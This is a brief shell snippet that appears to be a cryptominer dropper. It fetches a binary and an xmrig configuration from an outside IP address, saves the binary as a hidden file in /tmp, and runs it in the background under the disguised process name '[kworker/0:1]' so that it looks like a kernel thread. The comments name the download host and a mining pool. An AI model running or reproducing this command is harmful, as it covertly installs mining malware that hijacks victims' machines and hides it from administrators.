# exec -a with the config file in the home directory, no arguments
#http 203.0.113.53:8004
#pool 198.51.100.62:443:drop
curl -s http://203.0.113.53:8004/w -o /tmp/.k; curl -s http://203.0.113.53:8004/cfgdrop.json -o /root/.xmrig.json; chmod 700 /tmp/.k; (exec -a '[kworker/0:1]' /tmp/.k >/dev/null) & p=$!; sleep 12
